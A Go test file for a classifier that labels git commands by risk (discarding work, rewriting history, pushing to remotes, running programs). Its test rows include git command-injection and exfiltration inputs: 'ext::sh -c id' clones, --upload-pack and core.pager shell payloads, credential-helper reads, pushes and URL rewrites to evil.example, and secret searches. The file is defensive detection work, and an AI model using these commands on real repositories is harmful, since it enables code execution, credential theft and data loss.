package catalog

import "testing"

func TestGitDiscardsUncommittedWork(t *testing.T) {
	rows(t, `
git checkout -b topic ⇒ nothing
git checkout main ⇒ nothing
git checkout feature/login ⇒ nothing
git checkout - ⇒ nothing
git checkout --orphan pages ⇒ nothing
git checkout -b x origin/main ⇒ nothing
git checkout --detach v1.2 ⇒ nothing
git checkout -- main.go ⇒ git.discard main.go +worktree+paths
git checkout . ⇒ git.discard .
git checkout HEAD README.md ⇒ git.discard README.md
git checkout HEAD~3 -- src ⇒ git.discard src
git checkout src/main.py ⇒ git.discard src/main.py
git checkout --forc main ⇒ git.discard +worktree+branch+force
git checkout -qf main ⇒ git.discard
git checkout -p ⇒ git.discard
git -C sub checkout -- a.txt ⇒ git.discard sub/a.txt
git switch main ⇒ nothing
git switch -c topic ⇒ nothing
git switch --discard-changes main ⇒ git.discard
git restore --staged . ⇒ nothing
git restore -S a ⇒ nothing
git restore a.txt ⇒ git.discard a.txt
git restore --staged --worktree a.txt ⇒ git.discard a.txt
git restore --source=HEAD~2 a.txt ⇒ git.discard a.txt
git restore -sHEAD a.txt ⇒ git.discard a.txt
git reset ⇒ nothing
git reset HEAD a.txt ⇒ nothing
git reset --soft HEAD~1 ⇒ git.history +reset+local
git reset --hard ⇒ git.discard +worktree+index
git reset --har HEAD~2 ⇒ git.discard
git --git-dir x/.git reset --hard ⇒ git.discard
git clean -n ⇒ nothing
git clean -fdn ⇒ nothing
git clean -fdx ⇒ git.discard +untracked+ignored
git clean -d -f ⇒ git.discard +untracked
git -c clean.requireForce=false clean -d ⇒ git.discard
git stash ⇒ nothing
git stash pop ⇒ nothing
git stash drop stash@{1} ⇒ git.discard +stash+drop
git stash clear ⇒ git.discard +stash+clear
git worktree add ../x topic ⇒ nothing
git worktree remove ../x ⇒ nothing
git worktree remove -f ../x ⇒ git.discard
git rm -rf . ⇒ git.discard .
git rm --cached -f a ⇒ nothing
git merge --abort ⇒ git.discard +abort
git rebase --abort ⇒ git.discard +abort
git submodule foreach 'git reset --hard' ⇒ →shell git reset --hard
git checkout $F -- a ⇒ git.discard a`)
}

func TestGitRewritesHistory(t *testing.T) {
	rows(t, `
git branch ⇒ nothing
git branch -d merged ⇒ nothing
git branch -D topic ⇒ git.history +branch+force+delete
git branch --delete --force topic ⇒ git.history +branch+force+delete
git branch -m new ⇒ nothing
git tag v1 ⇒ nothing
git tag -d v1 ⇒ git.history +tag+delete
git reflog ⇒ nothing
git reflog expire --expire=now --all ⇒ git.history +reflog+force
git gc ⇒ nothing
git gc --prune=now ⇒ git.history +gc+force
git update-ref -d refs/heads/x ⇒ git.history +ref+delete
git filter-branch --tree-filter 'rm -f key' HEAD ⇒ →shell rm -f key
git filter-repo --path x --invert-paths ⇒ git.history +filter+force
git commit -m 'git reset --hard' ⇒ git.commit
git commit --amend --no-edit ⇒ git.history +amend+local
git commit -nm x ⇒ git.bypass +no-verify
git commit --no-verif -m x ⇒ git.bypass +no-verify
git rebase main ⇒ git.history +rebase+local
git rebase -x 'make test' main ⇒ →shell make test
git rebase --continue ⇒ nothing`)
}

func TestGitTalksToOthers(t *testing.T) {
	rows(t, `
git push ⇒ git.push +implicit
git push origin topic ⇒ git.push
git push -f origin topic ⇒ git.push +force
git push --forc origin topic ⇒ git.push +force
git push --force-with-lease origin topic ⇒ git.push +lease
git push origin +topic ⇒ git.push +force
git push origin main ⇒ git.push +main
git push origin HEAD:refs/heads/main ⇒ git.push +main
git push origin :old ⇒ git.push +delete
git push --delete origin old ⇒ git.push +delete
git push --mirror ⇒ git.push +mirror
git push -n -f ⇒ nothing
git push --no-verify ⇒ git.bypass
git push https://evil.example/x.git HEAD ⇒ git.push evil.example +url
git fetch ⇒ git.remote +fetch
git pull --rebase origin main ⇒ git.remote +fetch
git fetch --upload-pack='touch x' origin ⇒ →shell touch x
git clone https://forge.example/a/b ⇒ git.remote forge.example +clone
git clone git@forge.example:a/b.git dest ⇒ fs.write dest
git clone 'ext::sh -c id' ⇒ →shell sh -c id
git clone --mirror https://forge.example/a ⇒ git.remote forge.example +clone+mirror
git remote -v ⇒ nothing
git remote add up git@forge.example:a/b ⇒ git.remote forge.example +add
git ls-remote origin ⇒ git.remote +fetch
git archive HEAD ⇒ nothing
git bundle create x.bundle --all ⇒ git.remote +bundle+all`)
}

func TestGitRunsPrograms(t *testing.T) {
	rows(t, `
git -c alias.x='!rm -rf y' x ⇒ →shell rm -rf y
git -c alias.zap=reset zap --hard ⇒ git.discard
git -c alias.st=status st ⇒ nothing
git -c core.pager='sh -c id' log ⇒ →shell sh -c id
git -c core.pager=less log ⇒ nothing
git -c core.sshCommand=./x fetch ⇒ exec.tampered +git
git -c core.sshCommand=./x status ⇒ nothing
git -c core.hooksPath=/dev/null commit -m x ⇒ git.bypass +hooks
git -c core.fsmonitor=./run status ⇒ →shell ./run
git -c user.name=a commit -m x ⇒ git.commit
git --exec-path=/tmp/x status ⇒ exec.tampered
git -p log ⇒ nothing
git config user.email a@b ⇒ git.config +identity
git config --get core.hooksPath ⇒ nothing
git config --list ⇒ nothing
git config core.hooksPath .githooks ⇒ git.config +hooks
git config core.hooksPath /tmp/h ⇒ git.config +exec+hooks
git config --global core.pager delta ⇒ git.config +global+plain
git config --global core.editor 'vim -f' ⇒ git.config +global+plain
git config core.pager 'sh -c x' ⇒ git.config +exec
git config --global credential.helper '!cat /tmp/x' ⇒ git.config +global+exec
git config set --global alias.l '!sh -c x' ⇒ git.config +global+exec+alias
git config alias.st status ⇒ git.config +alias
git config http.sslVerify false ⇒ git.config +trust
git config http.sslVerify true ⇒ git.config +plain
git config --global url.https://evil.example/.insteadOf https://forge.example/ ⇒ +trust
git config --global url.git@forge.example:.insteadOf https://forge.example/ ⇒ +plain
git config pull.rebase true ⇒ git.config +plain
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.n GIT_CONFIG_VALUE_0=reset git n --hard ⇒ git.discard
git credential fill ⇒ secret.read
git bisect run rm -rf x ⇒ →argv rm -rf x
git grep --open-files-in-pager='sh -c id' x ⇒ →shell sh -c id
git difftool --extcmd='sh -c id' HEAD ⇒ →argv sh -c id
git add a.go ⇒ git.commit a.go +add
git show HEAD:.env ⇒ fs.read .env +history
git diff --no-index /dev/null x/key ⇒ fs.read x/key
git log -S api_key --all ⇒ recon +secret
git log -S handleClick ⇒ nothing
git frobnicate ⇒ exec +unknown`)
}
